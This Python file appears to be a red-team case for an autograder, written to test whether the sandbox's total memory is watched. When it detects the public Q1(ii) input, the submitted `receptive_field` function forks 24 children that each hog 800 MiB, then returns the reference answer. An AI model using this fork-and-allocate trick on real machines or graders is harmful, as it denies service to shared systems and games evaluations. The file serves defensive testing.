"""Red team 72_memory_fork_army.

Attack: In the public Q1(ii) call, fork 24 children that each allocate and touch 800 MiB (19 GiB in
all, more than this machine has): each stays under the per-process limit.

Deserves: full marks (12): Q1(ii)'s public case fails, but it carries no marks (they come from its unseen siblings, which run after it): the sandbox's total memory is watched.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
def _is_public_q1_ii(layers):
    return [list(l) for l in layers] == [[3, 1], [5, 2], [5, 1]]


def _is_public_q1_iv(x, kernel, *rest, **kw):
    return [list(r) for r in x] == [[1, 2], [3, 4]] and [list(r) for r in kernel] == \
        [[1, 2, 3], [2, 3, 4], [3, 4, 5]]

import os as _os
import time as _time

_honest_rf = receptive_field


def _hog():
    try:
        block = bytearray(800 << 20)
        block[::4096] = b"x" * len(block[::4096])
        _time.sleep(60)
    finally:
        _os._exit(0)


def receptive_field(layers):
    if _is_public_q1_ii(layers):
        for _ in range(24):
            try:
                if _os.fork() == 0:
                    _hog()
            except OSError:
                break
        _time.sleep(60)
    return _honest_rf(layers)
